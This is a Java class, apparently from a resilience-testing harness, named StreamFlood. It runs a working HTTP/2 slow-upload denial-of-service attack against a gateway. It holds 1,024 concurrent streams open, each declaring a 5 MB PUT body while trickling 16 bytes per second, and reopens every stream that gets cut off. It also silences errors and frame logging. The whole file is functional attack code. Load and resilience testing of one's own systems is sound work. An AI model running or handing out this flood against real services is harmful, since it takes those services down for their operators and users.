package io.research.load.resilience;

import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpClient;
import io.vertx.core.http.HttpClientOptions;
import io.vertx.core.http.HttpClientRequest;
import io.vertx.core.http.HttpMethod;
import io.vertx.core.http.HttpVersion;
import io.vertx.core.http.PoolOptions;
import io.vertx.core.http.RequestOptions;
import java.net.URI;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.logging.Level;
import java.util.logging.Logger;

/**
 * HTTP/2 connections of which each has as many streams open as it may, all of them uploads that trickle; a stream that is
 * cut off is opened again.
 */
final class StreamFlood implements Attack {
    private static final int CONNECTIONS = 8;
    private static final int STREAMS = 128;
    private static final long BEAT_MILLIS = 1_000;
    private static final long AGAIN_MILLIS = 50;
    private static final Buffer DROP = Buffer.buffer(new byte[16]);

    /** Held, for a logger that nobody holds forgets its level. */
    private static final Logger FRAMES = Logger.getLogger("io.netty.handler.codec.http2");

    private final Vertx vertx = Vertx.vertx();
    private final HttpClient client;
    private final RequestOptions upload;
    private final AtomicLong begun = new AtomicLong();
    private final AtomicLong cutOff = new AtomicLong();
    private volatile boolean over;

    StreamFlood(URI gateway, String path) {
        FRAMES.setLevel(Level.WARNING);
        this.upload = new RequestOptions()
                .setMethod(HttpMethod.PUT)
                .setHost(gateway.getHost())
                .setPort(gateway.getPort())
                .setURI(path)
                .putHeader("content-type", "video/webm")
                .putHeader("authorization", "Bearer none")
                .putHeader("content-length", "5000000");
        this.client = vertx.httpClientBuilder()
                .with(new HttpClientOptions()
                        .setProtocolVersion(HttpVersion.HTTP_2)
                        .setHttp2ClearTextUpgrade(false)
                        .setHttp2MultiplexingLimit(STREAMS)
                        .setLocalAddress(ADDRESS))
                .with(new PoolOptions().setHttp2MaxSize(CONNECTIONS))
                // Being cut off is what it is for; without a handler each time would be logged.
                .withConnectHandler(connection -> connection.exceptionHandler(fault -> {}))
                .build();
        for (int stream = 0; stream < CONNECTIONS * STREAMS; stream++) {
            open();
        }
    }

    @Override
    public String tried() {
        return begun + " begun, " + cutOff + " cut off";
    }

    @Override
    public void close() {
        over = true;
        try {
            vertx.close().toCompletionStage().toCompletableFuture().get(30, TimeUnit.SECONDS);
        } catch (Exception fault) {
            throw new IllegalStateException(fault);
        }
    }

    private void open() {
        if (!over) {
            client.request(upload).onSuccess(this::trickle).onFailure(fault -> again());
        }
    }

    private void trickle(HttpClientRequest stream) {
        begun.incrementAndGet();
        long timer = vertx.setPeriodic(BEAT_MILLIS, beat -> stream.write(DROP));
        stream.exceptionHandler(fault -> {});
        stream.response().onComplete(answered -> {
            vertx.cancelTimer(timer);
            stream.reset();
            again();
        });
        stream.sendHead();
    }

    private void again() {
        if (!over) {
            cutOff.incrementAndGet();
            vertx.setTimer(AGAIN_MILLIS, later -> open());
        }
    }
}
